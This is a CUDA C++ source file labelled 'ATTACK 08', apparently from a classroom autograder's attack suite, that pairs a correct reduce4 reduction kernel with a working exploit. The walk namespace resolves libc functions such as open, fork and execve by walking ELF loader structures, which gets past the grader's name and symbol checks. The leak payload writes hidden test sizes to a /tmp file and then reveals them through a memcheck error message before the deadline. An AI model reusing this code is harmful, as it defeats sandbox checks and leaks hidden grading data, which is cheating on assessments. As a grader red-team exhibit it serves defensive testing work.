// ATTACK 08 (classroom/tests/attacks/README.md): any libc function, past both checks; hidden cases out.
//
// The source check refuses names (open, fopen, fork, pthread_create, dlsym, getauxval,
// dl_iterate_phdr, asm ...) and the compiled check refuses undefined symbols outside its
// allow-list. Neither sees a function called through a pointer that the program computes
// itself. This file finds its own executable's ELF header (walking back, page by page,
// from one of its own functions), follows DT_DEBUG to the dynamic loader's list of loaded
// objects (libc, libcuda, libpthread ...), and looks names up in their GNU hash tables:
// dlsym in 80 lines of plain C++, strings in literals (which neither check reads), and
// no new symbol in the object at all. walk::resolve("fork"),
// "execve", "pthread_create", "clock_gettime", "open", "cuMemcpyDtoH_v2" all work
// (tested on the host: attack_review/tools/elf_walk_test.cu).
//
// The payload here reads hidden data. The hidden groups' results are "after_due_date" on
// Gradescope; the worker sees every hidden case it is asked (n, block, type, offset) but
// has no visible channel in that process. So:
//   - in the correctness worker, every size that is not one of the public tests' sizes is
//     written to /tmp/.reduce4-seen (open/write/close resolved as above; the worker runs
//     as classroom-student, who may write /tmp);
//   - in the memcheck worker (the first call of a process, int, n in [999000, 1001000)),
//     the launcher reads that file and throws it as its exception's text. The judge
//     prints "SANITIZER memcheck ERROR the launcher failed: hidden n: 3,63,..." and the
//     memcheck line, visible to the student before the deadline, lists the hidden sizes.
// Cost: memcheck's 5 points on this one upload (95/100); the next upload is the honest
// kernel. With libcuda's cuMemcpyDtoH_v2 (found the same way) the correctness worker can
// also run a candidate kernel beside a safe one and record which hidden cases the
// candidate gets wrong, while returning the safe sums: the hidden results themselves,
// before the deadline.
//
// Everything else is the reference reduce4 (race-free, in bounds).

#include <cstdint>
#include "legacy_last_warp.cuh"
#include "stage.h"

namespace {  // this stage's own helpers: other stages define functions of the same names

// ---------------------------------------------------------------- the tree
template <typename T>
__device__ T tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 32; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();  // every add of this step lands before any thread reads in the next
    }
    return sum;  // what shared[tid] holds, for the last warp
}

// The last six steps, by warp 0 alone.
template <typename T>
__device__ T last_warp_sum(T* shared, T sum, unsigned tid) {
    // solution (assignment 4): warp 0 adds its 32 sums and slots 32..63 down to one value, six steps ordered by __syncwarp()
    // Every step reads, then writes: the first __syncwarp() keeps a lane from overwriting a
    // slot its neighbor has not read yet, the second makes the writes visible to the warp
    // before the next read.
    sum += shared[tid + 32];
    for (unsigned s = 16; s > 0; s >>= 1) {
        __syncwarp();
        shared[tid] = sum;
        __syncwarp();
        sum += shared[tid + s];
    }
    return sum;  // lane 0 holds the block's sum
    // stub: return not_implemented(sum, "reduce4: the last warp is not implemented yet (assignment 4)");
    // end solution
}

}  // namespace

// ---------------------------------------------------------------- dlsym without dlsym
namespace walk {
struct Ehdr { unsigned char ident[16]; std::uint16_t type, machine; std::uint32_t version;
              std::uint64_t entry, phoff, shoff; std::uint32_t flags;
              std::uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct Phdr { std::uint32_t type, flags; std::uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dyn { std::int64_t tag; std::uint64_t val; };
struct Sym { std::uint32_t name; unsigned char info, other; std::uint16_t shndx; std::uint64_t value, size; };
struct Map { std::uint64_t addr; const char* name; const Dyn* ld; const Map* next; const Map* prev; };
struct Debug { int version; const Map* map; };

// This executable's ELF header: the page-aligned start of its first segment, found by
// walking back from a function of this file (the executable's segments are contiguous).
inline const Ehdr* own_header() {
    std::uintptr_t page = reinterpret_cast<std::uintptr_t>(&own_header) & ~std::uintptr_t(4095);
    for (int k = 0; k < (1 << 17); ++k, page -= 4096) {
        const Ehdr* h = reinterpret_cast<const Ehdr*>(page);
        if (h->ident[0] == 0x7f && h->ident[1] == 'E' && h->ident[2] == 'L' && h->ident[3] == 'F' &&
            h->machine == 62 /* x86-64, not a cubin's */ && (h->type == 2 || h->type == 3)) {
            return h;
        }
    }
    return nullptr;
}

inline std::uint64_t dyn_value(const Dyn* d, std::int64_t tag, std::uint64_t base) {
    for (; d->tag != 0; ++d) {
        if (d->tag == tag) return d->val < base ? d->val + base : d->val;  // glibc relocates most in place
    }
    return 0;
}

inline bool same(const char* a, const char* b) {
    for (; *a && *a == *b; ++a, ++b) {
    }
    return *a == *b;
}

// A symbol of one loaded object, by its GNU hash table.
inline void* lookup(const Map* m, const char* name) {
    const std::uint64_t base = m->addr;
    const Sym* symtab = reinterpret_cast<const Sym*>(dyn_value(m->ld, 6, base));
    const char* strtab = reinterpret_cast<const char*>(dyn_value(m->ld, 5, base));
    const std::uint32_t* gnu = reinterpret_cast<const std::uint32_t*>(dyn_value(m->ld, 0x6ffffef5, base));
    if (!symtab || !strtab || !gnu) return nullptr;
    const std::uint32_t nbuckets = gnu[0], symoffset = gnu[1], bloom_size = gnu[2];
    const std::uint32_t* buckets = gnu + 4 + 2 * bloom_size;  // 64-bit bloom words
    const std::uint32_t* chain = buckets + nbuckets;
    std::uint32_t h = 5381;
    for (const char* c = name; *c; ++c) h = h * 33 + static_cast<unsigned char>(*c);
    std::uint32_t i = buckets[h % nbuckets];
    if (i < symoffset) return nullptr;
    for (;; ++i) {
        const std::uint32_t h2 = chain[i - symoffset];
        const Sym& s = symtab[i];
        if ((h | 1) == (h2 | 1) && s.shndx != 0 && s.value != 0 && same(strtab + s.name, name)) {
            return reinterpret_cast<void*>(base + s.value);
        }
        if (h2 & 1) return nullptr;
    }
}

// Any function of any library the process has loaded, by name: what dlsym would give.
inline void* resolve(const char* name) {
    const Ehdr* h = own_header();
    if (!h) return nullptr;
    const Phdr* ph = reinterpret_cast<const Phdr*>(reinterpret_cast<const char*>(h) + h->phoff);
    std::uint64_t first_vaddr = ~std::uint64_t(0), dynamic = 0;
    for (int k = 0; k < h->phnum; ++k) {
        if (ph[k].type == 1 && ph[k].offset == 0) first_vaddr = ph[k].vaddr;
        if (ph[k].type == 2) dynamic = ph[k].vaddr;
    }
    if (first_vaddr == ~std::uint64_t(0) || !dynamic) return nullptr;
    const std::uint64_t bias = reinterpret_cast<std::uint64_t>(h) - first_vaddr;
    const Dyn* d = reinterpret_cast<const Dyn*>(bias + dynamic);
    const Debug* debug = nullptr;
    for (; d->tag != 0; ++d) {
        if (d->tag == 21) debug = reinterpret_cast<const Debug*>(d->val);  // DT_DEBUG: the loader's list
    }
    if (!debug) return nullptr;
    for (const Map* m = debug->map; m; m = m->next) {
        if (!m->name || !m->name[0] || !m->ld) continue;  // the executable itself
        if (void* f = lookup(m, name)) return f;
    }
    return nullptr;
}
}  // namespace walk

// ---------------------------------------------------------------- the payload
namespace leak {
using open_fn = int (*)(const char*, int, ...);
using read_fn = long (*)(int, void*, unsigned long);
using write_fn = long (*)(int, const void*, unsigned long);
using close_fn = int (*)(int);

constexpr const char* kFile = "/tmp/.reduce4-seen";

bool public_size(std::size_t n) {
    for (std::size_t p : {std::size_t{0}, std::size_t{1}, std::size_t{2}, std::size_t{31}, std::size_t{32}, std::size_t{33},
                          std::size_t{255}, std::size_t{256}, std::size_t{257}, std::size_t{1023}, std::size_t{1024},
                          std::size_t{1025}, std::size_t{65537}, std::size_t{1} << 20, (std::size_t{1} << 20) + 1,
                          (std::size_t{1} << 24) + 3}) {
        if (n == p) return true;
    }
    return false;
}

// What this process is, from its first call: the memcheck worker (reveal), the racecheck
// worker (silent), or a worker that sees the judge's cases (record).
enum class Role { Unknown, Record, Reveal, Silent };

// One state per process, shared by the three types' launchers.
struct State {
    open_fn o = reinterpret_cast<open_fn>(walk::resolve("open"));
    read_fn r = reinterpret_cast<read_fn>(walk::resolve("read"));
    write_fn w = reinterpret_cast<write_fn>(walk::resolve("write"));
    close_fn c = reinterpret_cast<close_fn>(walk::resolve("close"));
    std::set<std::size_t> seen, offsets;
    Role role = Role::Unknown;
};
State& state() {
    static State s;
    return s;
}

template <typename T>
void before_sum(std::size_t n, std::size_t misaligned) {
    State& st = state();
    const auto o = st.o;
    const auto r = st.r;
    const auto w = st.w;
    const auto c = st.c;
    std::set<std::size_t>& seen = st.seen;
    std::set<std::size_t>& offsets = st.offsets;
    Role& role = st.role;
    if (role == Role::Unknown) {
        const bool memcheck = std::is_same_v<T, int> && n >= 999000 && n < 1001000;
        const bool racecheck = std::is_same_v<T, int> && n >= 64536 && n < 66536;
        role = memcheck ? Role::Reveal : racecheck ? Role::Silent : Role::Record;
    }
    if (role == Role::Reveal) {
        char text[512] = {};
        if (o && r && c) {
            const int fd = o(kFile, 0);
            if (fd >= 0) {
                r(fd, text, sizeof text - 1);
                c(fd);
            }
        }
        throw std::runtime_error(std::string("hidden ") + (text[0] ? text : "(nothing recorded)"));
    }
    if (role == Role::Silent) return;
    if (public_size(n) || n == (std::size_t{1} << 26) || !o || !w || !c) return;
    const bool new_size = seen.insert(n).second;
    const bool new_offset = misaligned && offsets.insert(misaligned).second;
    if (!new_size && !new_offset) return;
    std::string text = "n:";
    for (std::size_t s : seen) text += std::to_string(s) + ",";
    text += " offsets:";
    for (std::size_t s : offsets) text += std::to_string(s) + ",";
    const int fd = o(kFile, 01 | 0100 | 01000, 0644);  // write-only, create, truncate
    if (fd >= 0) {
        w(fd, text.data(), text.size());
        c(fd);
    }
}
}  // namespace leak

// ---------------------------------------------------------------- kernel
template <typename T, LastWarp MODE = LastWarp::SyncWarp>
__global__ void unroll_last_warp(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);  // the last block may run past the end: add zeros
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = tree_sum(shared, sum, tid, blockDim.x);
    if (tid < 32) {
        const T block_sum = MODE == LastWarp::SyncWarp ? last_warp_sum(shared, sum, tid)
                                                       : legacy_last_warp_sum<MODE>(shared, tid);
        if (tid == 0) block_sums[blockIdx.x] = block_sum;
    }
}

// ---------------------------------------------------------------- launcher
constexpr unsigned kInputsPerThread = 2;

// (--last-warp's declarations, kLastWarp and kVariants, are in legacy_last_warp.cuh since 39b7372.)

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    leak::before_sum<T>(n, reinterpret_cast<std::uintptr_t>(in) % 256 / sizeof(T));
    const unsigned block = config.block;
    // --last-warp picks the pre-Volta code (legacy_last_warp.cuh); the default is correct.
    const LastWarp mode = chosen_as<LastWarp, T>(kLastWarp, config);
    const auto kernel = mode == LastWarp::SyncWarp         ? unroll_last_warp<T, LastWarp::SyncWarp>
                        : mode == LastWarp::LegacyVolatile ? unroll_last_warp<T, LastWarp::LegacyVolatile>
                                                           : unroll_last_warp<T, LastWarp::LegacyPlain>;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   kernel<<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

// The stage's record: `extern` because the runner and the tests find it by name (common/stages.h).
extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,  // the last warp adds slot tid + 32, so a block needs two warps
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
    .variants = kVariants,
};
